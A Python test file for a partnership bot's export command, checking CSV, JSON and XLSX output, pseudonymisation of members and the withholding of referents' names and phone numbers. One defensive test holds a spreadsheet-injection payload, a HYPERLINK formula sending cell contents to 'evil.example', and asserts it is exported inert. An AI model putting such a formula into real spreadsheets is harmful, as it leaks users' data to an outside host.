"""`alliance export` in each format, opened with its standard reader."""

from __future__ import annotations

import csv
import json
import subprocess
import sys

import openpyxl
import pytest

from bot.exporting import WITHHELD
from bot.services import Actor, Services
from storage import repository
from storage.db import make_engine, session_scope
from storage.models import FlowSession
from tests.bot.checkins import evaluated_partnership, rounds_of
from tests.bot.client import Client
from tests.bot.test_checkins_e2e import EVERYONE, PULSE_ANSWERS, answer

DIMENSIONS = 9


@pytest.fixture
def evaluated(sqlite_url):
    """A partnership whose pulse was answered by its four respondents; and another one."""
    pid = evaluated_partnership(sqlite_url)
    evaluated_partnership(sqlite_url, ours=(301,), theirs=(401,), name="Autre")
    engine = make_engine(sqlite_url)
    service = Client(Services(engine))
    service.partnership_button(Actor("tg:101", "fr"), service.button(pid, "round", "pulse"), 1)
    (round_,) = rounds_of(sqlite_url, pid)
    for chat in EVERYONE:
        answer(service, chat, round_.id, PULSE_ANSWERS | {"performance": "2 trop lent"})
    engine.dispose()
    return sqlite_url, pid


def alliance_export(url: str, *args: str) -> subprocess.CompletedProcess:
    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", "export", *args],
        env={"DATABASE_URL": url, "PATH": ""},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return done


def test_csv_holds_every_section_with_members_pseudonymised(evaluated, tmp_path):
    url, pid = evaluated
    alliance_export(url, "--format", "csv", "-o", str(tmp_path / "export.csv"))
    with (tmp_path / "export.csv").open(encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    sections = {}
    for row in rows:
        sections.setdefault(row["section"], []).append(row)
    assert {r["name"] for r in sections["partnerships"]} == {"Alliance Emploi", "Autre"}
    ours = [r for r in sections["members"] if r["partnership_id"] == str(pid)]
    assert len(ours) == 4 and all(r["member"].startswith("membre-") for r in ours)
    assert not any("Contact" in value for row in rows for value in row.values() if value)
    (round_,) = sections["rounds"]
    assert round_["status"] == "closed" and round_["answered"] == "4"
    assert len(sections["scores"]) == DIMENSIONS
    performance = [r for r in sections["answers"] if r["question"] == "performance"]
    assert len(performance) == 4 and "trop lent" in performance[0]["value"]


def test_json_and_xlsx_hold_the_same_partnerships(evaluated, tmp_path):
    url, pid = evaluated
    data = json.loads(alliance_export(url, "--format", "json", "--names").stdout)
    first = next(p for p in data["partnerships"] if p["id"] == pid)
    assert {m["member"] for m in first["members"]} >= {"Contact 102", "Contact 201"}
    assert len(first["rounds"][0]["scores"]) == DIMENSIONS
    alliance_export(url, "--format", "xlsx", "-o", str(tmp_path / "export.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "export.xlsx", read_only=True)
    partnerships = list(book["partnerships"].iter_rows(values_only=True))
    assert partnerships[0][:2] == ("partnership_id", "name") and len(partnerships) == 3
    assert len(list(book["scores"].iter_rows(values_only=True))) == DIMENSIONS + 1


def test_one_partnership_alone(evaluated):
    url, pid = evaluated
    data = json.loads(alliance_export(url, "--format", "json", "--partnership", str(pid)).stdout)
    assert [p["name"] for p in data["partnerships"]] == ["Alliance Emploi"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
REFERENT = "Claire Dupont (moi)"
PHONE = "06 12 34 56 78"
PERSONAL = ("Claire Dupont", "Marc Lefèvre", PHONE, "Jeanne Martin")


def partnership_with_answers(url: str, *, name: str, organisation: str, answers: dict) -> int:
    """A partnership created by a member who answered each questionnaire given {id: answers}."""
    engine = make_engine(url)
    with session_scope(engine) as db:
        owner = repository.get_or_create_user(db, external_id="tg:901", language="fr")
        partnership = repository.create_partnership(
            db, user=owner, name=name, our_organisation=organisation, partner_name="@SUM(1+1)"
        )
        db.flush()
        for flow, given in answers.items():
            state = {"questionnaire": flow, "state": "done", "answers": given}
            db.add(
                FlowSession(
                    user_id=owner.id,
                    flow=flow,
                    status="done",
                    state=state,
                    partnership_id=partnership.id,
                )
            )
        pid = partnership.id
    engine.dispose()
    return pid


def xlsx_values(path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_formulas_are_exported_inert_in_csv_and_xlsx(evaluated, tmp_path):
    url, _ = evaluated
    pid = partnership_with_answers(
        url,
        name=FORMULA,
        organisation="+33 1 23 45 67 89",
        answers={"followup": {"communication_plan": FORMULA, "frequency": "-1", "actions": "\tx"}},
    )
    alliance_export(url, "--format", "csv", "-o", str(tmp_path / "export.csv"))
    with (tmp_path / "export.csv").open(encoding="utf-8") as stream:
        rows = [r for r in csv.DictReader(stream) if r["partnership_id"] == str(pid)]
    (partnership,) = [r for r in rows if r["section"] == "partnerships"]
    assert partnership["name"] == "'" + FORMULA
    assert partnership["our_organisation"] == "'+33 1 23 45 67 89"
    assert partnership["partner"] == "'@SUM(1+1)"
    answers = {r["question"]: r["value"] for r in rows if r["section"] == "answers"}
    assert answers == {"communication_plan": "'" + FORMULA, "frequency": "'-1", "actions": "'\tx"}

    alliance_export(url, "--format", "xlsx", "-o", str(tmp_path / "export.xlsx"))
    cells = xlsx_values(tmp_path / "export.xlsx")
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {"'" + FORMULA, "'+33 1 23 45 67 89", "'@SUM(1+1)", "'-1", "'\tx"} <= texts
    scores = openpyxl.load_workbook(tmp_path / "export.xlsx")["scores"]
    assert all(isinstance(row[3], (int, float)) for row in scores.iter_rows(2, values_only=True))


@pytest.fixture
def referents(sqlite_url):
    """A partnership whose /suivi names referents and a committee, and whose convention
    names each party's representative."""
    pid = partnership_with_answers(
        sqlite_url,
        name="Alliance Emploi",
        organisation="Rebond",
        answers={
            "followup": {
                "referent_ours": REFERENT,
                "referent_partner": f"Marc Lefèvre, {PHONE}",
                "steering_committee": "yes",
                "committee_members": "Claire Dupont et Marc Lefèvre",
                "communication_plan": "Une lettre aux adhérents",
            },
            "convention": {
                "p_ours": "association ; Paris ; RNA W751234567 ; Jeanne Martin, présidente",
                "p_partner": f"SAS ; Bobigny ; SIREN 812 345 678 ; Marc Lefèvre, {PHONE}",
                "c_steering": ["referents", "steering_committee"],
                "t_referents_ours": "Claire Dupont, coordinatrice",
                "t_referents_partner": "Marc Lefèvre",
                "t_steering_committee": "Jeanne Martin et Marc Lefèvre",
            },
            "note": {"text": f"Appeler Marc Lefèvre au {PHONE}"},
        },
    )
    return sqlite_url, pid


def exported_texts(url: str, tmp_path, *names: str) -> dict[str, str]:
    """The whole export in each format, as one text per format."""
    alliance_export(url, "--format", "csv", "-o", str(tmp_path / "export.csv"), *names)
    alliance_export(url, "--format", "xlsx", "-o", str(tmp_path / "export.xlsx"), *names)
    return {
        "csv": (tmp_path / "export.csv").read_text(encoding="utf-8"),
        "json": alliance_export(url, "--format", "json", *names).stdout,
        "xlsx": "\n".join(str(c.value) for c in xlsx_values(tmp_path / "export.xlsx")),
    }


def test_an_export_without_names_holds_no_referent_representative_or_phone(referents, tmp_path):
    url, pid = referents
    for form, text in exported_texts(url, tmp_path).items():
        assert [found for found in PERSONAL if found in text] == [], form
        assert WITHHELD in text and "Une lettre aux adhérents" in text, form
    data = json.loads(alliance_export(url, "--format", "json").stdout)
    (answers,) = [p["answers"] for p in data["partnerships"] if p["id"] == pid]
    withheld = {a["question"] for a in answers if a["value"] == WITHHELD}
    assert withheld == {
        "referent_ours",
        "referent_partner",
        "committee_members",
        "p_ours",
        "p_partner",
        "t_referents_ours",
        "t_referents_partner",
        "t_steering_committee",
        "text",
    }


def test_an_export_with_names_holds_them(referents, tmp_path):
    url, _ = referents
    for form, text in exported_texts(url, tmp_path, "--names").items():
        assert [found for found in PERSONAL if found not in text] == [], form
        assert REFERENT in text and WITHHELD not in text, form
